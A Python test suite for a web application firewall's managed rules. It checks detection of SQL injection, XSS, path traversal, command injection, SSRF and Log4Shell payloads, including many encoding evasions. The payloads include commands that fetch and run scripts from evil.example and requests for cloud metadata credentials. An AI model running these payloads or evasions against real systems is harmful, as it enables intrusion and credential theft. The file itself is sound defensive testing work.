"""The managed rules: every family in every inspected location, evasions, binary uploads, benign
traffic, malformed input, and the detection rates on the CRS regression cases."""

from __future__ import annotations

import base64
import importlib.util
import json
import random
from collections.abc import Callable
from pathlib import Path
from types import ModuleType
from urllib.parse import quote, urlencode

import pytest

from bastion.edge.managed import clear_cache, managed_matches
from bastion.edge.request import InspectedRequest, parse_request
from bastion.edge.rules import RuleMatch

ROOT = Path(__file__).resolve().parents[2]
CASES = ROOT.parent / "shared" / "datasets" / "waf" / "crs_cases.jsonl"
UA = {"User-Agent": "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0"}

# One representative payload per family. None of them holds a double quote, so each one fits
# in a quoted multipart file name too.
PAYLOADS = {
    "sqli": "1' OR '1'='1' --",
    "xss": "<script>alert(document.cookie)</script>",
    "lfi": "../../../../etc/passwd",
    "rce": "127.0.0.1; wget http://evil.example/a.sh -O- | sh",
    "ssrf": "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
    "log4shell": "${jndi:ldap://evil.example:1389/a}",
}


def _multipart(name: str, value: str, filename: str | None = None) -> tuple[str, bytes]:
    disposition = f'form-data; name="{name}"'
    content = value.encode()
    if filename is not None:
        disposition += f'; filename="{filename}"'
        content = b"%PDF-1.4\nplain pdf bytes\n%%EOF"
    body = (
        (
            f"--b0undary\r\nContent-Disposition: {disposition}\r\n"
            + ("Content-Type: application/pdf\r\n" if filename is not None else "")
            + "\r\n"
        ).encode()
        + content
        + b"\r\n--b0undary--\r\n"
    )
    return "multipart/form-data; boundary=b0undary", body


def _in_query(payload: str) -> InspectedRequest:
    return parse_request("GET", f"/search?{urlencode({'q': payload})}", UA, b"")


def _in_header(payload: str) -> InspectedRequest:
    return parse_request("GET", "/", {**UA, "X-Note": payload}, b"")


def _in_cookie(payload: str) -> InspectedRequest:
    return parse_request("GET", "/", {**UA, "Cookie": f"theme=dark; note={quote(payload)}"}, b"")


def _in_json(payload: str) -> InspectedRequest:
    body = json.dumps({"message": {"parts": [{"text": payload}]}}).encode()
    return parse_request("POST", "/", {**UA, "Content-Type": "application/json"}, body)


def _in_form(payload: str) -> InspectedRequest:
    body = urlencode({"name": "Anna", "note": payload}).encode()
    headers = {**UA, "Content-Type": "application/x-www-form-urlencoded"}
    return parse_request("POST", "/contact", headers, body)


def _in_multipart_field(payload: str) -> InspectedRequest:
    content_type, body = _multipart("note", payload)
    return parse_request("POST", "/upload", {**UA, "Content-Type": content_type}, body)


def _in_file_name(payload: str) -> InspectedRequest:
    content_type, body = _multipart("upload", "", filename=f"{payload}.pdf")
    return parse_request("POST", "/upload", {**UA, "Content-Type": content_type}, body)


LOCATIONS: dict[str, tuple[Callable[[str], InspectedRequest], str]] = {
    "query": (_in_query, "query:q"),
    "header": (_in_header, "header:x-note"),
    "cookie": (_in_cookie, "cookie:note"),
    "json": (_in_json, "body:message.parts[0].text"),
    "form": (_in_form, "body:note"),
    "multipart_field": (_in_multipart_field, "body:note"),
    "file_name": (_in_file_name, "body:upload:filename"),
}


def _families(matches: list[RuleMatch]) -> set[str]:
    return {m.rule_id.split(".")[1] for m in matches}


@pytest.mark.parametrize("location", sorted(LOCATIONS))
@pytest.mark.parametrize("family", sorted(PAYLOADS))
def test_each_family_in_each_location(family: str, location: str) -> None:
    build, target = LOCATIONS[location]
    payload = PAYLOADS[family]
    matches = managed_matches(build(payload))
    hits = [m for m in matches if m.rule_id.startswith(f"managed.{family}.")]
    assert hits, f"{family} not detected in {location}: {matches}"
    assert hits[0].group == "managed"
    assert hits[0].target == target
    for match in matches:  # a match names the place, never the value
        assert payload not in match.target


@pytest.mark.parametrize(
    ("family", "value"),
    [
        ("sqli", "1 UNION/**/SELECT password FROM users"),
        ("sqli", "1%2527%2520OR%25201%253D1--"),  # double percent-encoding
        ("sqli", "admin\u2019 OR \u20191\u2019=\u20191"),  # typographic quotes
        ("sqli", "1;WAITFOR DELAY '0:0:5'--"),
        ("sqli", "1 AND SLEEP(5)"),
        ("xss", "<img src=x onerror=alert(1)>"),
        ("xss", "&lt;svg/onload=alert(1)&gt;"),  # HTML entities
        ("xss", "ja&Tab;vascript:alert(1)"),
        ("xss", "%u003Cscript%u003Ealert(1)"),  # IIS %u encoding
        ("xss", "+ADw-script+AD4-alert(1)"),  # UTF-7
        ("lfi", "..%c0%af..%c0%afetc%c0%afpasswd"),  # overlong UTF-8
        ("lfi", "\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc/shadow"),  # full-width
        ("lfi", "....//....//boot.ini"),
        ("rce", "c'a't /e't'c/pa's'swd"),
        ("rce", "cat${IFS}/etc/passwd"),
        ("rce", "/???/??t /???/p??s??"),
        ("rce", "$(curl http://evil.example/x)"),
        ("rce", "`id`"),
        ("rce", "() { :; }; /bin/bash -c id"),
        ("rce", "| powershell -enc SQBFAFgA"),
        ("rce", "for %i in (a b) do calc"),
        ("ssrf", "http://2852039166/latest/meta-data/"),  # decimal
        ("ssrf", "http://0xa9.0xfe.0xa9.0xfe/"),  # hex parts
        ("ssrf", "http://0251.0376.0251.0376/"),  # octal
        ("ssrf", "http://[::ffff:169.254.169.254]/"),
        ("ssrf", "http://metadata.google.internal/computeMetadata/v1/"),
        ("ssrf", "http://100.100.100.200/latest/meta-data/"),
        ("log4shell", "${${lower:j}ndi:ldap://x/a}"),
        ("log4shell", "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}"),
        ("log4shell", "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x/a}"),
    ],
)
def test_evasions_are_decoded(family: str, value: str) -> None:
    matches = managed_matches(_in_query(value))
    assert f"managed.{family}" in {m.rule_id.rsplit(".", 1)[0] for m in matches}, matches


def test_attack_in_the_uri_path_and_names() -> None:
    path = managed_matches(parse_request("GET", "/files/..%2f..%2fetc%2fpasswd", UA, b""))
    assert ("managed.lfi.traversal", "uri") in {(m.rule_id, m.target) for m in path}
    hidden = managed_matches(parse_request("GET", "/.git/config", UA, b""))
    assert {m.target for m in hidden} == {"uri"}
    name = managed_matches(parse_request("GET", "/?user[$ne]=x", UA, b""))
    assert ("managed.sqli.nosql_operator", "query-name") in {(m.rule_id, m.target) for m in name}
    body = json.dumps({"user": {"$gt": ""}}).encode()
    json_name = managed_matches(
        parse_request("POST", "/", {**UA, "Content-Type": "application/json"}, body)
    )
    assert "managed.sqli.nosql_operator" in {m.rule_id for m in json_name}


def test_long_or_hostile_names_are_not_echoed_in_targets() -> None:
    name = "<script>alert(1)</script>" + "x" * 200
    matches = managed_matches(parse_request("GET", f"/?{quote(name)}=1", UA, b""))
    assert matches
    for match in matches:
        assert "<" not in match.target and len(match.target) <= 80


def test_restricted_upload_names() -> None:
    for filename in ("shell.php", ".htaccess", "wp-config.php.bak", "settings. php"):
        content_type, body = _multipart("upload", "", filename=filename)
        req = parse_request("POST", "/upload", {**UA, "Content-Type": content_type}, body)
        assert "managed.rce.restricted_upload" in {m.rule_id for m in managed_matches(req)}


def test_invalid_accept_header() -> None:
    req = parse_request("GET", "/", {**UA, "Accept": "text/html,<script>"}, b"")
    assert [m.rule_id for m in managed_matches(req)] == ["managed.protocol.invalid_accept"]
    fine = "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"
    assert managed_matches(parse_request("GET", "/", {**UA, "Accept": fine}, b"")) == []


ATTACK_TEXT = (
    b"<script>alert(document.cookie)</script> 1' OR '1'='1' -- ../../etc/passwd "
    b"; wget http://evil.example/a.sh | sh ${jndi:ldap://x/a} http://169.254.169.254/"
)


def test_pdf_bytes_are_not_pattern_matched() -> None:
    pdf = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n4 0 obj\n<< /Length 200 >>\nstream\n" + ATTACK_TEXT
    pdf += b"\nendstream\nendobj\n%%EOF\n"
    body = (
        b'--B\r\nContent-Disposition: form-data; name="file"; filename="report.pdf"\r\n'
        b"Content-Type: application/pdf\r\n\r\n" + pdf + b"\r\n--B--\r\n"
    )
    req = parse_request(
        "POST", "/upload", {**UA, "Content-Type": "multipart/form-data; boundary=B"}, body
    )
    assert managed_matches(req) == []


@pytest.mark.parametrize(
    ("part_type", "content"),
    [
        ("application/pdf", ATTACK_TEXT),  # claims PDF, is not one: inspected
        ("text/plain", ATTACK_TEXT),
        ("application/octet-stream", b"%PDF-1.7\n" + ATTACK_TEXT),
    ],
)
def test_other_file_parts_are_inspected(part_type: str, content: bytes) -> None:
    body = (
        b'--B\r\nContent-Disposition: form-data; name="file"; filename="report.pdf"\r\n'
        + f"Content-Type: {part_type}\r\n\r\n".encode()
        + content
        + b"\r\n--B--\r\n"
    )
    req = parse_request(
        "POST", "/upload", {**UA, "Content-Type": "multipart/form-data; boundary=B"}, body
    )
    assert {m.target for m in managed_matches(req)} == {"body:file"}


BENIGN_VALUES = (
    "Can you select the best three options from the list and send them to me?",
    "I'd like to order by Friday if that's possible.",
    "Please drop the last two items from my cart, I don't need them anymore.",
    "The union meeting was moved to Thursday at 3 pm.",
    "Which script should I run to regenerate the monthly report?",
    "My name is O'Connor, not O'Conner; please correct it on the ticket.",
    'Answer "yes" or "no", then find me at the desk; I\'ll wait.',
    "Copy & paste the address: 221B Baker Street, London NW1 6XE.",
    "See https://example.com/help/billing?topic=refunds#section-2 for details.",
    "Rock 'n' roll isn't dead - it's just resting (mostly).",
    "Select committee report (2024), page 3: sales rose 4.5% year over year.",
    "Guten Tag, ich möchte meine Bestellung stornieren.",
    "こんにちは、注文した商品がまだ届いていません。",
    "Здравствуйте, подскажите, пожалуйста, когда будет доставка?",
    "Loved it!!! 5 stars :-) would buy again ;) <3",
    "Meet at 10:30 or 11:00? Time is tight; either works.",
    "Price < 50 and size 10-12, sort by -date",
    "version 1.2.3.4 of the app, build 20240611",
)


@pytest.mark.parametrize("value", BENIGN_VALUES)
def test_benign_values_are_not_matched(value: str) -> None:
    for location, (build, _) in LOCATIONS.items():
        if location == "file_name":
            continue
        assert managed_matches(build(value)) == [], (location, value)


def test_benign_a2a_request_is_not_matched() -> None:
    body = {
        "jsonrpc": "2.0",
        "id": 7,
        "method": "message/send",
        "params": {
            "message": {
                "role": "user",
                "messageId": "9f1c0a52-0e0b-4a53-8c0e-6c3c2f5d8a11",
                "parts": [{"kind": "text", "text": BENIGN_VALUES[0]}],
            }
        },
    }
    headers = {
        **UA,
        "Content-Type": "application/json",
        "Accept": "application/json",
        "Authorization": "Bearer eyJhbGciOiJSUzI1NiJ9.e30.c2ln",
        "X-Correlation-ID": "2b7e1516-28ae-4d2a-a6d2-abf7158809cf",
        "Cookie": "session=1f0e; consent=%7B%22ads%22%3A%20false%7D",
    }
    req = parse_request("POST", "/", headers, json.dumps(body).encode())
    assert managed_matches(req) == []
    card = parse_request("GET", "/.well-known/agent-card.json", UA, b"")
    assert managed_matches(card) == []


@pytest.mark.parametrize(
    ("content_type", "body"),
    [
        ("application/json", b"{\"q\": \"1' OR '1'='1' --\""),  # bad JSON: raw text inspected
        ("multipart/form-data; boundary=B", b"--B\r\nbroken <script>alert(1)</script>"),
        ("text/plain", b"\xff\xfe<script>alert(1)</script>\xc0"),
        ("application/xml", b"<r><a x='1' OR '1'='1' --></r"),
    ],
)
def test_malformed_bodies_are_inspected_raw(content_type: str, body: bytes) -> None:
    req = parse_request("POST", "/", {**UA, "Content-Type": content_type}, body)
    assert req.malformed
    assert managed_matches(req)


@pytest.mark.parametrize(
    ("uri", "headers", "body"),
    [
        ("/%", {}, b""),
        ("/?a=%zz%u12&%=%%", {}, b""),
        ("/%ff%fe%00?x=%c0%af", {"Cookie": ";;=;a"}, b""),
        ("/", {"Content-Type": "application/json"}, b"\x00\xff{"),
        ("/", {"Content-Type": "application/json"}, b"[" * 50_000),
        ("/", {"Content-Type": "multipart/form-data; boundary="}, b"--\r\n--"),
        ("/", {"Content-Type": "multipart/form-data; boundary=a"}, b"--a" * 10_000),
        ("/", {"Content-Type": "text/plain"}, b"1" * 2_000_000),
        ("/", {"Content-Type": "text/plain"}, b"/" + b"?" * 200_000),
        ("/?q=" + "a" * 200_000, {"X-Long": "<" * 100_000}, b""),
        ("/", {"Content-Type": "application/x-www-form-urlencoded"}, b"&" * 100_000),
        ("/", {"Content-Type": "application/xml"}, b"<a>" * 50_000),
        # Long runs that once made patterns with unbounded repetition take quadratic time.
        ("/", {"Content-Type": "text/plain"}, b"\n" * 100_000),
        ("/", {"Content-Type": "text/plain"}, b"{" * 100_000),
        ("/", {"Content-Type": "text/plain"}, b"${" * 50_000),
        ("/", {"Content-Type": "text/plain"}, b"<a " * 30_000),
        ("/", {"Content-Type": "text/plain"}, b"/*" * 50_000),
        ("/", {"Content-Type": "text/plain"}, b"`" * 100_000),
    ],
)
def test_malformed_and_huge_inputs_never_raise(
    uri: str, headers: dict[str, str], body: bytes
) -> None:
    req = parse_request("POST", uri, {**UA, **headers}, body)
    assert isinstance(managed_matches(req), list)


def test_repeated_values_give_the_same_verdict() -> None:
    clear_cache()
    first = managed_matches(_in_header(PAYLOADS["sqli"]))
    second = managed_matches(_in_header(PAYLOADS["sqli"]))
    assert first == second and first


def _bench() -> ModuleType:
    """bench/waf.py as a module (it puts bench/ on sys.path for its own modules)."""
    spec = importlib.util.spec_from_file_location("waf_bench", ROOT / "bench" / "waf.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


@pytest.mark.skipif(not CASES.is_file(), reason=f"CRS cases not found at {CASES}")
def test_bench_detection_rates_on_crs_cases() -> None:
    waf = _bench()
    rows = {row["family"]: row for row in waf.detection_table(waf.load_cases(CASES))}
    assert len(rows) == 5
    for family, row in rows.items():
        assert row["attacks"] > 0
        assert row["attack_block_rate"] >= 0.9, (family, row)


def test_bench_false_positive_rate_on_benign_corpus() -> None:
    waf = _bench()
    report = waf.false_positives(waf.benign_requests(600, seed=7))
    assert report["requests"] == 600
    assert report["rate"] <= 0.01, report


def test_websocket_keys_are_nonces_not_text() -> None:
    # Random keys, as every browser and client sends them: none may read as an attack (one in a
    # few thousand used to, e.g. as a batch command).
    rng = random.Random(6455)
    for _ in range(5000):
        key = base64.b64encode(rng.randbytes(16)).decode("ascii")
        req = parse_request("GET", "/ws/events", {"Sec-WebSocket-Key": key}, b"")
        assert managed_matches(req) == [], key
    # A "key" of another shape is a header like any other.
    hostile = parse_request("GET", "/ws/events", {"Sec-WebSocket-Key": "1 UNION SELECT 1,2--"}, b"")
    assert managed_matches(hostile)
